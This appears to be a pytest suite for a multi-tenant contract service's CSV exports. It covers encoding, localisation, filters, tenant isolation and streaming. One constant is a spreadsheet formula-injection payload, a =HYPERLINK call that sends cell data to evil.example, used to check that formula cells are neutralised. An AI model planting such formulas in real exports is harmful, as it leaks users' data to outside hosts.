"""CSV exports (issue 12): the lists of the API and the pages as downloads Excel opens (UTF-8 with a BOM, CRLF),
headers and codes in the reader's language, formula cells made inert and numbers left as numbers, the same
filters, order and access as the JSON lists, read a keyset page at a time. On SQLite and PostgreSQL.

Two tenants: acme's contract c-001 on METI's programme, and other's c-002 on MEXT's; the clock stands at
2026-04-20, five days after c-001's shareholder declaration fell due (its workflow moved it to overdue)."""

from __future__ import annotations

import csv
import inspect
import io
from datetime import date, datetime
from typing import Any
from urllib.parse import unquote

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import event
from sqlmodel import Session
from starlette.responses import StreamingResponse

from service.auth.tokens import Principal
from service.db import session_scope
from service.exports import service as exports
from service.exports.response import csv_response
from service.notifications.models import Notification
from service.obligations import service as obligations
from service.rules.dates import JST
from tests.api.test_events_api import ip_plan
from tests.factories import ContractBody, ProgrammeBody
from tests.support.clock import Clock
from tests.support.pages import csrf_of
from tests.support.rows import scoped

BOM = b"\xef\xbb\xbf"
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"click")'
CONDITIONS = 'Report every transfer, in writing;\nkeep the "logs" for 5 years'
EXPORTS = ["/v1/consultations.csv", "/v1/deadlines.csv", "/v1/notifications.csv",
           "/v1/contracts/{c}/deadlines.csv", "/v1/contracts/{c}/shareholders.csv", "/v1/contracts/{c}/audit.csv"]


def read(r: Any) -> list[list[str]]:
    """The rows of a CSV answer, header first, read as any CSV reader reads them."""
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.content.startswith(BOM)
    return list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))


def records(r: Any) -> list[dict[str, str]]:
    header, *rows = read(r)
    return [dict(zip(header, row, strict=True)) for row in rows]


def column(r: Any, name: str) -> list[str]:
    return [row[name] for row in records(r)]


@pytest.fixture
def people(auth) -> dict[str, dict[str, str]]:
    return {"acme": auth("contractor", "acme", sub="sato"), "other": auth("contractor", "other", sub="suzuki"),
            "meti": auth("ministry_officer", "meti", sub="oka"), "mext": auth("ministry_officer", "mext", sub="mori"),
            "admin": auth("admin", "admin")}


def _plan(api: TestClient, headers: dict[str, str], contract: str, plan: dict[str, Any]) -> str:
    r = api.post(f"/v1/contracts/{contract}/events", headers=headers,
                 json={"type": "ip_action.planned", "occurred_on": "2026-04-01", "data": plan})
    assert r.status_code == 202, r.text
    [case] = [e["id"] for e in r.json()["effects"] if e["kind"] == "consultation_opened"]
    return case


def _note(nid: str, contract_id: str, status: str, day: int, **kw: Any) -> Notification:
    return Notification(**{"id": nid, "contract_id": contract_id, "deadline_id": "shareholder_declaration.1",
                           "due_on_text": "2026-04-15", "rung": "reminder-7", "audience": "contractor",
                           "subscription_id": "sub_x", "channel": "email", "address": f"staff@{contract_id}.example",
                           "lang": "ja", "scheduled_for": datetime(2026, 4, day, 9, tzinfo=JST), "status": status,
                           **kw})


@pytest.fixture
def tenants(api: TestClient, admin, people, clock: Clock, engine) -> dict[str, str]:
    """c-001 (acme, METI): an open case whose counterparty is a formula, a concluded one with conditions on two
    lines, an overdue shareholder declaration, messages; c-002 (other, MEXT): a case, a shareholder history."""
    r = api.post("/v1/programmes", headers=admin, json=ProgrammeBody(id="m-ai", name="AI robotics programme",
                                                                     ministry="mext", technology_areas=["ai_robotics"]))
    assert r.status_code == 201, r.text
    r = api.post("/v1/contracts", headers=admin, json=ContractBody(id="c-002", programme_id="m-ai",
                                                                   contractor_org="other", title="Other robots"))
    assert r.status_code == 201, r.text
    acme, other, meti = people["acme"], people["other"], people["meti"]
    formula_plan = ip_plan()
    formula_plan["counterparty"]["name"] = FORMULA
    open_case = _plan(api, acme, "c-001", formula_plan)
    done_case = _plan(api, acme, "c-001", ip_plan("joint_rd"))
    assert api.post(f"/v1/consultations/{done_case}/start-review", headers=meti).status_code == 200
    r = api.post(f"/v1/consultations/{done_case}/conclude", headers=meti,
                 json={"outcome": "conditions", "conditions": CONDITIONS, "reason": "-1 risk left, +2 measures"})
    assert r.status_code == 200, r.text
    other_case = _plan(api, other, "c-002", ip_plan())
    r = api.post("/v1/contracts/c-002/events", headers=other, json={
        "type": "shareholding.declared", "occurred_on": "2026-04-01",
        "data": {"shares_outstanding": 300, "holders": [{"name": "+Holder Co.", "country": "CN", "shares_held": 100}]}})
    assert r.status_code == 202, r.text
    r = api.post("/v1/contracts/c-002/events", headers=other, json={
        "type": "shareholding.changed", "occurred_on": "2026-04-01",
        "data": {"holder": {"name": "Second Holder K.K.", "country": "JP"}, "shares_held": 200,
                 "shares_outstanding": 600}})
    assert r.status_code == 202, r.text
    with session_scope(engine) as s:  # what c-001's workflow does on the 20th: the declaration is overdue
        obligations.advance(s, "c-001", date(2026, 4, 20))
        s.add_all(scoped(s, [
            _note("msg_c1_sent", "c-001", "sent", 8, attempts=1, subject="【期限の7日前】契約時の株主等の報告"),
            _note("msg_c1_failed", "c-001", "failed", 9, attempts=5, last_error="@SUM(1) refused"),
            _note("msg_c2_sent", "c-002", "sent", 8, attempts=1, subject="Other's message"),
        ]))
    clock.set("2026-04-20")
    return {"open_case": open_case, "done_case": done_case, "other_case": other_case}


# --- the file ----------------------------------------------------------------------------------------

def test_a_bom_crlf_records_and_a_round_trip_through_pythons_csv(api: TestClient, tenants, people) -> None:
    r = api.get("/v1/consultations.csv", headers=people["meti"])
    rows = records(r)
    assert sorted(row["案件ID"] for row in rows) == sorted([tenants["open_case"], tenants["done_case"]])
    done = next(row for row in rows if row["案件ID"] == tenants["done_case"])
    assert done["条件"] == CONDITIONS  # two lines, a semicolon and quotes, back as they were
    assert (done["状態"], done["結論"], done["契約件名"], done["実施者名"], done["プログラム名"]) == (
        "結論済み", "条件付き", "Quantum sensors", "Acme Quantum K.K.", "K Program: quantum sensing")
    # Every record ends with CRLF; the only bare LF is the one inside the quoted conditions.
    text = r.content.decode("utf-8-sig")
    assert text.endswith("\r\n") and text.count("\r\n") == 3
    assert text.replace("\r\n", "").count("\n") == 1
    assert r.headers["cache-control"] == "private, no-store"


def test_downloads_name_their_file_in_ascii_and_in_the_readers_language(api: TestClient, tenants, people) -> None:
    r = api.get("/v1/contracts/c-001/audit.csv", headers=people["acme"])
    disposition = r.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="audit-trail_c-001_2026-04-20.csv"; filename*=UTF-8\'\'')
    assert unquote(disposition.split("''", 1)[1]) == "監査証跡_c-001_2026-04-20.csv"
    r = api.get("/v1/deadlines.csv", headers=people["acme"], params={"lang": "en"})
    assert unquote(r.headers["content-disposition"].split("''", 1)[1]) == "deadlines_2026-04-20.csv"


def test_the_api_answers_in_the_language_asked_for(api: TestClient, tenants, people) -> None:
    acme = people["acme"]
    ja = read(api.get("/v1/contracts/c-001/deadlines.csv", headers=acme))
    en = read(api.get("/v1/contracts/c-001/deadlines.csv", headers=acme, params={"lang": "en"}))
    by_header = read(api.get("/v1/contracts/c-001/deadlines.csv",
                             headers={**acme, "Accept-Language": "en-GB, ja;q=0.5"}))
    assert ja[0][:6] == ["契約ID", "契約件名", "実施者ID", "実施者名", "義務", "期限"]
    assert en[0][:6] == ["Contract ID", "Contract title", "Contractor ID", "Contractor name", "Obligation", "Deadline"]
    assert by_header == en
    declaration_ja, declaration_en = (next(dict(zip(rows[0], row, strict=True)) for row in rows[1:]
                                           if row[12] == "shareholder_declaration.1") for rows in (ja, en))
    assert (declaration_ja["状態"], declaration_ja["期限"]) == ("期限超過", "契約時の株主等の報告")
    assert declaration_ja["根拠"].startswith("技術流出防止策") and "DOMAIN.md" not in declaration_ja["根拠"]
    assert (declaration_en["State"], declaration_en["Due"]) == ("overdue", "2026-04-15")
    r = api.get("/v1/contracts/c-001/deadlines.csv", headers=acme, params={"lang": "fr"})
    assert r.status_code == 422 and r.headers["content-type"] == "application/problem+json"


def test_formula_cells_are_made_inert_and_numbers_stay_numbers(api: TestClient, tenants, people) -> None:
    cases = {c["案件ID"]: c for c in records(api.get("/v1/consultations.csv", headers=people["acme"]))}
    assert cases[tenants["open_case"]]["相手方"] == "'" + FORMULA
    assert cases[tenants["done_case"]]["結論等の理由"] == "'-1 risk left, +2 measures"
    r = api.get("/v1/deadlines.csv", headers=people["acme"], params={"state": "overdue"})
    [overdue] = records(r)
    assert (overdue["期日"], overdue["残り日数"], overdue["状態"]) == ("2026-04-15", "-5", "期限超過")
    assert ",-5," in r.content.decode("utf-8-sig")  # the number, not the text '-5
    [failed] = records(api.get("/v1/notifications.csv", headers=people["acme"], params={"status": "failed"}))
    assert failed["直近のエラー"] == "'@SUM(1) refused"
    holders = records(api.get("/v1/contracts/c-002/shareholders.csv", headers=people["other"]))
    assert [h["保有者"] for h in holders] == ["'+Holder Co.", "Second Holder K.K."]


def test_the_shareholder_history_one_row_per_holder(api: TestClient, tenants, people) -> None:
    rows = records(api.get("/v1/contracts/c-002/shareholders.csv", headers=people["other"], params={"lang": "en"}))
    assert [(h["Date"], h["Report"], h["Country"], h["Shares held"], h["Shares outstanding"], h["Share (%)"])
            for h in rows] == [("2026-04-01", "initial declaration", "China (CN)", "100", "300", "33.33"),
                               ("2026-04-01", "new holder report", "Japan (JP)", "200", "600", "33.33")]
    assert "report filed" in rows[0]["Effects"]


def test_the_audit_trail_in_words_beside_its_codes(api: TestClient, tenants, people) -> None:
    rows = records(api.get("/v1/contracts/c-001/audit.csv", headers=people["meti"]))
    trail = api.get("/v1/contracts/c-001/audit", headers=people["meti"]).json()
    assert [int(r["連番"]) for r in rows] == [e["seq"] for e in trail["entries"]]
    assert [r["ハッシュ値"] for r in rows] == [e["hash"] for e in trail["entries"]]
    assert rows[0]["操作"] == "契約を登録" and rows[0]["操作コード"] == "contract.registered"
    conclude = next(r for r in rows if r["操作コード"] == "consultation.conclude")
    assert (conclude["操作"], conclude["実行者"]) == ("事前相談の結論を通知", "oka（事業所管府省庁の担当官・経済産業省）")
    assert any(r["実行者"] == "システム" and r["操作"].startswith("処理結果：") for r in rows)
    assert rows[0]["日時（日本時間）"].endswith("+09:00")


# --- the same lists as the JSON ----------------------------------------------------------------------

LISTS = [
    ("/v1/consultations", {}), ("/v1/consultations", {"status": "open"}),
    ("/v1/consultations", {"status": "concluded"}), ("/v1/consultations", {"contract_id": "c-002"}),
    ("/v1/consultations", {"sort": "target", "overdue": "false"}), ("/v1/consultations", {"q": "Counterparty"}),
    ("/v1/consultations", {"q": "METI-2026-000002"}), ("/v1/consultations", {"assigned_to": "oka"}),
    ("/v1/deadlines", {}), ("/v1/deadlines", {"state": "overdue"}), ("/v1/deadlines", {"state": "met"}),
    ("/v1/deadlines", {"due_before": "2026-05-01", "state": "open"}),
    ("/v1/notifications", {}), ("/v1/notifications", {"status": "sent"}),
    ("/v1/notifications", {"contract_id": "c-001"}),
    ("/v1/contracts/c-001/deadlines", {}), ("/v1/contracts/c-001/deadlines", {"state": "overdue"}),
]


@pytest.mark.parametrize("who", ["acme", "meti", "admin"])
def test_the_csv_lists_what_the_json_lists_in_its_order(api: TestClient, tenants, people, who: str) -> None:
    headers = people[who]
    for path, params in LISTS:
        answer = api.get(path, headers=headers, params=params).json()
        items = answer["items"] if isinstance(answer, dict) else answer
        id_column = {"/v1/consultations": "Case ID", "/v1/notifications": "Message ID"}.get(path, "Deadline ID")
        rows = records(api.get(path + ".csv", headers=headers, params={**params, "lang": "en"}))
        assert [(r[id_column], r["Contract ID"]) for r in rows] == [(i["id"], i["contract_id"]) for i in items], (
            who, path, params)


def test_filters_narrow_the_export(api: TestClient, tenants, people) -> None:
    meti = people["meti"]
    assert column(api.get("/v1/consultations.csv", headers=meti, params={"status": "concluded"}), "案件ID") == [
        tenants["done_case"]]
    assert column(api.get("/v1/consultations.csv", headers=meti, params={"status": "open"}), "案件ID") == [
        tenants["open_case"]]
    assert column(api.get("/v1/deadlines.csv", headers=meti, params={"state": "overdue"}), "期限ID") == [
        "shareholder_declaration.1"]
    assert column(api.get("/v1/notifications.csv", headers=meti, params={"status": "sent"}), "通知ID") == [
        "msg_c1_sent"]
    r = api.get("/v1/consultations.csv", headers=meti, params={"status": "bogus"})
    assert r.status_code == 422 and r.headers["content-type"] == "application/problem+json"


# --- access ------------------------------------------------------------------------------------------

OTHERS = ["c-002", "m-ai", "AI robotics programme", "Other robots", "Other Corp.", "Holder Co.", "Other's message"]


@pytest.mark.parametrize("who", ["acme", "meti"])
def test_another_tenants_rows_never_appear(api: TestClient, tenants, people, who: str) -> None:
    headers = people[who]
    for path in ("/v1/consultations.csv", "/v1/deadlines.csv", "/v1/deadlines.csv?state=met",
                 "/v1/notifications.csv", "/v1/consultations.csv?contract_id=c-002",
                 "/v1/notifications.csv?contract_id=c-002", "/v1/consultations.csv?programme_id=m-ai",
                 "/v1/consultations.csv?contractor_org=other"):
        r = api.get(path, headers=headers)
        read(r)
        text = r.content.decode("utf-8-sig")
        assert [o for o in OTHERS + [tenants["other_case"]] if o in text] == [], (who, path)
    for template in EXPORTS[3:]:
        theirs = api.get(template.format(c="c-002"), headers=headers)
        nobody = api.get(template.format(c="zz-nobody"), headers=headers)
        assert theirs.status_code == nobody.status_code == 404
        assert theirs.text.replace("c-002", "<ID>") == nobody.text.replace("zz-nobody", "<ID>")
        assert api.get(template.format(c="c-001"), headers=headers).status_code == 200
    # The other side's own export does have them: the checks above could fail.
    assert "Holder Co." in api.get("/v1/contracts/c-002/shareholders.csv", headers=people["mext"]).text
    assert tenants["other_case"] in api.get("/v1/consultations.csv", headers=people["admin"]).text


def test_a_contractor_never_sees_where_the_ministrys_messages_go(api: TestClient, tenants, people, engine) -> None:
    with session_scope(engine) as s:
        s.add_all(scoped(s, [_note("msg_c1_officer", "c-001", "sent", 10, audience="ministry_officer",
                                   address="desk@meti.example")]))
    assert "desk@meti.example" not in api.get("/v1/notifications.csv", headers=people["acme"]).text
    assert "desk@meti.example" in api.get("/v1/notifications.csv", headers=people["meti"]).text


def test_exports_need_a_token(api: TestClient, tenants) -> None:
    for template in EXPORTS:
        r = api.get(template.format(c="c-001"))
        assert r.status_code == 401 and r.headers["content-type"] == "application/problem+json", template


# --- streamed, a page at a time ----------------------------------------------------------------------

def test_an_export_reads_its_list_a_page_at_a_time(api: TestClient, tenants, engine, monkeypatch) -> None:
    """The rows come from a generator that reads the next keyset page only when the rows before are written:
    a ministry's 100,000 rows are never in memory together."""
    monkeypatch.setattr(exports, "PAGE", 2)
    with session_scope(engine) as s:
        s.add_all(scoped(s, [_note(f"msg_many_{i}", "c-001", "pending", 10 + i % 10) for i in range(7)]))
    officer = Principal(sub="oka", role="ministry_officer", org="meti")
    with Session(engine) as session:
        reads: list[str] = []
        event.listen(session, "do_orm_execute",
                     lambda ctx: reads.append(ctx.statement.get_final_froms()[0].name) if ctx.is_select else None)
        export = exports.messages(session, officer, date(2026, 4, 20), "ja")
        assert reads == []  # nothing read until the first row is asked for
        chunks = export.chunks()
        assert inspect.isgenerator(chunks) and inspect.isgenerator(export.rows)
        first = next(export.rows)
        assert reads.count("notification") == 1 and first[-1].startswith("msg_")
        assert isinstance(csv_response(export), StreamingResponse)
        rest = list(export.rows)
        assert len(rest) == 8  # 7 + the two of the fixture - the first
        assert reads.count("notification") == 5  # ceil(9 / 2) pages


def test_the_routes_stream() -> None:
    from service.exports.router import router as api_exports
    from service.web.exports import router as page_exports

    routes = {r.path: r for r in api_exports.routes + page_exports.routes}
    assert sorted(routes) == sorted([t.replace("{c}", "{contract_id}") for t in EXPORTS] + [
        "/inbox/exports/cases.csv", "/inbox/exports/deadlines.csv", "/inbox/exports/notifications.csv",
        "/inbox/contracts/{contract_id}/audit.csv", "/inbox/contracts/{contract_id}/deadlines.csv",
        "/inbox/contracts/{contract_id}/shareholders.csv", "/inbox/applications/{application_id}/checks.csv"])
    assert all(issubclass(r.response_class, StreamingResponse) for r in routes.values())


@pytest.mark.parametrize("template", EXPORTS)
def test_a_long_export_walks_every_page(api: TestClient, tenants, people, monkeypatch, template: str) -> None:
    """Pages of two rows: every row still comes, once, in order, with its names."""
    for holders in (700, 800):  # c-002's history: four reports
        r = api.post("/v1/contracts/c-002/events", headers=people["other"], json={
            "type": "shareholding.changed", "occurred_on": "2026-04-02",
            "data": {"holder": {"name": f"Holder {holders}", "country": "US"}, "shares_held": 300,
                     "shares_outstanding": holders}})
        assert r.status_code == 202, r.text
    for _ in range(2):  # and c-001 two more deadlines each: applying for the prior approval, and getting it
        r = api.post("/v1/contracts/c-001/events", headers=people["acme"], json={
            "type": "ip_action.planned", "occurred_on": "2026-04-20",
            "data": ip_plan("transfer", country="US", relation="subsidiary", influence=False)})
        assert r.status_code == 202, r.text
    whole = read(api.get(template.format(c="c-002" if "shareholders" in template else "c-001"),
                         headers=people["admin"]))
    monkeypatch.setattr(exports, "PAGE", 2)
    paged = read(api.get(template.format(c="c-002" if "shareholders" in template else "c-001"),
                         headers=people["admin"]))
    assert paged == whole and len(whole) >= 3, template


# --- the pages' downloads ----------------------------------------------------------------------------

def _browser(api: TestClient, headers: dict[str, str]) -> TestClient:
    pages = TestClient(api.app, base_url="https://testserver", follow_redirects=False)
    csrf = csrf_of(pages.get("/inbox/login"))
    token = headers["Authorization"].removeprefix("Bearer ")
    assert pages.post("/inbox/login", data={"csrf": csrf, "token": token}).status_code == 303
    return pages


def test_pages_download_in_japanese_unless_asked_otherwise(api: TestClient, tenants, people) -> None:
    pages = _browser(api, people["meti"])
    ja = read(pages.get("/inbox/exports/cases.csv"))
    assert ja[0][:3] == ["相談番号", "案件ID", "状態"] and {r[2] for r in ja[1:]} == {"提出済み", "結論済み"}
    assert {r[0] for r in ja[1:]} == {"METI-2026-000001", "METI-2026-000002"}
    en = read(pages.get("/inbox/exports/cases.csv", params={"lang": "en"}))
    assert en[0][:3] == ["Case number", "Case ID", "Status"] and {r[2] for r in en[1:]} == {"submitted", "concluded"}
    filtered = read(pages.get("/inbox/exports/cases.csv", params={"status": "concluded", "programme_id": "",
                                                                  "contractor_org": "", "overdue": "", "q": ""}))
    assert [r[1] for r in filtered[1:]] == [tenants["done_case"]]
    assert read(pages.get("/inbox/exports/cases.csv", params={"mine": "true"}))[1:] == []  # oka claimed none
    assert [r[12] for r in read(pages.get("/inbox/exports/deadlines.csv", params={"state": "overdue"}))[1:]] == [
        "shareholder_declaration.1"]
    assert len(read(pages.get("/inbox/exports/notifications.csv", params={"status": "sent"}))) == 2
    for path in ("/inbox/contracts/c-001/deadlines.csv", "/inbox/contracts/c-001/shareholders.csv",
                 "/inbox/contracts/c-001/audit.csv"):
        assert read(pages.get(path))[0][0] in ("契約ID", "日付", "連番"), path
    r = pages.get("/inbox/contracts/c-002/audit.csv", headers={"accept": "text/html"})
    assert r.status_code == 404 and "c-002" not in r.headers.get("content-disposition", "")


def test_a_page_download_needs_a_signed_in_reader_and_known_filters(api: TestClient, tenants, people) -> None:
    anonymous = TestClient(api.app, base_url="https://testserver", follow_redirects=False)
    r = anonymous.get("/inbox/exports/cases.csv")
    assert r.status_code == 303 and r.headers["location"].startswith("/inbox/login")
    pages = _browser(api, people["acme"])
    for params in ({"status": "bogus"}, {"overdue": "maybe"}, {"sort": "name"}):
        r = pages.get("/inbox/exports/cases.csv", params=params, headers={"accept": "text/html"})
        assert r.status_code == 422 and r.headers["content-type"].startswith("text/html"), params
    assert pages.get("/inbox/exports/deadlines.csv", params={"due_before": "tomorrow"}).status_code == 422
    # Another tenant's rows are not in a contractor's page download either.
    text = pages.get("/inbox/exports/cases.csv").content.decode("utf-8-sig")
    assert tenants["open_case"] in text and tenants["other_case"] not in text


# --- the document ------------------------------------------------------------------------------------

def test_the_openapi_documents_each_export_as_text_csv(api: TestClient) -> None:
    doc = api.get("/openapi.json").json()
    for template in EXPORTS:
        op = doc["paths"][template.replace("{c}", "{contract_id}")]["get"]
        ok = op["responses"]["200"]
        assert list(ok["content"]) == ["text/csv"] and ok["content"]["text/csv"]["schema"] == {"type": "string"}
        assert "byte-order mark" in ok["description"] and "Content-Disposition" in ok["headers"]
        assert op["security"] == [{"bearerAuth": []}]
        assert "lang" in {p["name"] for p in op["parameters"]}
        assert ("404" in op["responses"]) == ("{c}" in template), template
